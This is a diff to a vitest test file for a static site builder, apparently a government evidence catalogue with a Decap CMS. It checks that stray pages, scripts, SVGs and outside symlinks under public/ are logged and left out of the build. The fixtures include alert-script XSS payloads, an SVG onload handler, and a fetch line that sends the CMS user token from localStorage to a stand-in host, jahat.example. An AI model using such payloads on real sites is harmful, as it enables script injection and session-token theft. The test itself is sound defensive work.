@@ -1,4 +1,5 @@
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { createTempSite } from '../helpers/temp-site.ts';
@@ -54,6 +55,7 @@ function hostileInnovation(): string {
 }
 
 let site: ReturnType<typeof createTempSite>;
+let outside: string;
 let result: ReturnType<ReturnType<typeof createTempSite>['build']>;
 
 beforeAll(() => {
@@ -65,11 +67,24 @@ beforeAll(() => {
 		'public/bukti/dinkes/jahat/sk.pdf': PDF_BYTES,
 		'public/bukti/dinkes/jahat/foto.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
 		'public/bukti/pemda/rpjmd.pdf': PDF_BYTES,
+		// Stray files a PR or a CMS upload could add: each would run on the site's origin.
+		'public/bukti/index.html': '<script>alert("xss-stray")</script>',
+		'public/bukti/dinkes/x.html': '<script>alert("xss-stray")</script>',
+		'public/bukti/dinkes/jahat/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+		'public/bukti/dinkes/jahat/curi.js': 'fetch("https://jahat.example/?t=" + localStorage.getItem("decap-cms-user"))',
 	});
+	outside = mkdtempSync(join(tmpdir(), 'katalog-luar-'));
+	writeFileSync(join(outside, 'rahasia.pdf'), PDF_BYTES);
+	symlinkSync(join(outside, 'rahasia.pdf'), join(site.root, 'public/bukti/dinkes/jahat/rahasia.pdf'));
+	symlinkSync(outside, join(site.root, 'public/bukti/dinkes/folder-luar'));
+	symlinkSync(join(outside, 'tidak-ada.pdf'), join(site.root, 'public/bukti/dinkes/jahat/putus.pdf'));
 	result = site.build();
 }, 180_000);
 
-afterAll(() => site.cleanup());
+afterAll(() => {
+	site.cleanup();
+	rmSync(outside, { recursive: true, force: true });
+});
 
 describe('a site built from hostile and broken submissions', () => {
 	test('builds, skipping the broken file and naming it in the log', () => {
@@ -93,6 +108,16 @@ describe('a site built from hostile and broken submissions', () => {
 		expect(html).not.toMatch(/<[a-z][^>]*\s(href|src)\s*=\s*["']?\s*javascript:/i);
 		// The raw HTML is shown as text, so the writer can see what was dropped.
 		expect(html).toMatch(/(&lt;|&#x3C;)script(>|&gt;)alert\('xss-script'\)/);
+	});
+
+	test('only audited files of public/ are published: stray pages, scripts, SVG and links are logged and left out', () => {
+		const log = result.stdout + result.stderr;
+		const published = readdirSync(join(site.root, 'dist/bukti'), { recursive: true }).map(String).sort();
+		expect(published).toEqual(['dinkes', 'dinkes/jahat', 'dinkes/jahat/foto.png', 'dinkes/jahat/sk.pdf', 'pemda', 'pemda/rpjmd.pdf']);
+		for (const file of ['public/bukti/index.html', 'public/bukti/dinkes/x.html', 'public/bukti/dinkes/jahat/logo.svg', 'public/bukti/dinkes/jahat/curi.js', 'public/bukti/dinkes/jahat/rahasia.pdf', 'public/bukti/dinkes/folder-luar', 'public/bukti/dinkes/jahat/putus.pdf']) {
+			expect(log).toContain(`${file}:1:1: galat:`);
+		}
+		expect(log).toContain('7 berkas di public/ tidak diterbitkan');
 	});
 
 	test('external links in the body get rel="noopener noreferrer"', () => {
